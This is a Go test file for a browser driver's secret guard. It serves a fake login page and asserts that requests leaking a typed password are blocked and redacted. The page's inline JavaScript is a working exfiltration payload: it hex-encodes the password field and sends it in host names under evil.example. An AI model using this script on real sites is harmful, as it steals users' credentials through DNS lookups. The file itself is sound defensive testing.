package driver

import (
	"context"
	"encoding/hex"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"sync"
	"testing"

	"github.com/durable-browser/durable-browser/internal/netguard"
	"github.com/durable-browser/durable-browser/internal/redact"
)

// namesResolver records every name the reach guard asks and answers none:
// no lookup reaches a real server.
type namesResolver struct {
	mu    sync.Mutex
	names []string
}

func (r *namesResolver) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	r.mu.Lock()
	r.names = append(r.names, host)
	r.mu.Unlock()
	return nil, errors.New("no such host")
}

func (r *namesResolver) asked() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.names...)
}

// A page on the secret's own site spells the typed secret into host names
// (hex, hex split into labels and upper-cased, the value itself) and asks
// for them: the reach guard's lookup would send the secret to the name
// servers of evil.example. Every such request is blocked by rule secret
// before the resolver is asked, and listed without the value; a name
// without the secret is looked up as before (the control).
func TestSecretHostNeverLookedUp(t *testing.T) {
	const secret = "dns-Exfil-Secret-Value-8842"
	done := make(chan struct{}, 1)
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		switch r.URL.Path {
		case "/login":
			fmt.Fprint(w, `<!doctype html><title>A</title>
<input type="password" id="pw" aria-label="A password">
<button onclick="leak()">Send</button>
<script>
function leak() {
  const v = document.getElementById("pw").value;
  const h = Array.from(new TextEncoder().encode(v)).map(c => c.toString(16).padStart(2, "0")).join("");
  const img = u => new Promise(r => { const i = new Image(); i.onload = i.onerror = r; i.src = u; });
  Promise.allSettled([
    fetch("http://" + h + ".evil.example/"),
    fetch("https://" + h.slice(0, 20).toUpperCase() + "." + h.slice(20) + ".evil.example/"),
    img("http://" + v + ".evil.example/x.png"),
    fetch("http://benign.evil.example/"),
  ]).then(() => fetch("/done"));
}
</script>`)
		case "/done":
			select {
			case done <- struct{}{}:
			default:
			}
		}
	}))
	defer site.Close()
	r := &namesResolver{}
	b := attach(t, Options{Reach: &netguard.Policy{AllowLoopback: true}, GuardSecrets: true, Resolver: r})
	pw := redact.Secret{Name: "PW", Value: secret, Origins: []string{redact.OriginOf(site.URL)}}

	gotoPage(t, b, site.URL+"/login")
	sn := snap(t, b, SnapshotOptions{})
	if _, err := b.Run(ctxT(t), secretActs(t, fmt.Sprintf(`[{"op":"fill","id":%q,"value":%q}]`, idOf(t, sn.Text, "A password"), secret), pw), RunOptions{}); err != nil {
		t.Fatal(err)
	}
	blocked := mustRun(t, b, fmt.Sprintf(`[{"op":"click","id":%q}]`, idOf(t, sn.Text, `button "Send"`))).Blocked
	eventually(t, "the page's requests to settle", func() bool {
		blocked = append(blocked, mustRun(t, b, `[{"op":"wait","ms":1}]`).Blocked...)
		return len(done) > 0 && len(blocked) >= 4
	})
	h := hex.EncodeToString([]byte(secret))
	for _, name := range r.asked() {
		if name != "benign.evil.example" {
			t.Errorf("the resolver was asked %q", name)
		}
	}
	if got := r.asked(); len(got) == 0 {
		t.Error("the control name was never looked up: the test's resolver is not the guard's")
	}
	if n := countRule(blocked, RuleSecret); n != 3 {
		t.Errorf("%d requests blocked by rule secret, want 3: %+v", n, blocked)
	}
	for _, br := range blocked {
		shown := strings.ToLower(br.Origin)
		if strings.Contains(shown, h[:8]) || strings.Contains(shown, h[len(h)-8:]) || strings.Contains(shown, strings.ToLower(secret[:8])) {
			t.Errorf("a blocked request shows part of the secret: %+v", br)
		}
		if br.Rule == RuleSecret && (br.Secret != "PW" || !strings.Contains(br.Origin, "[redacted].evil.example")) {
			t.Errorf("blocked = %+v", br)
		}
	}
}
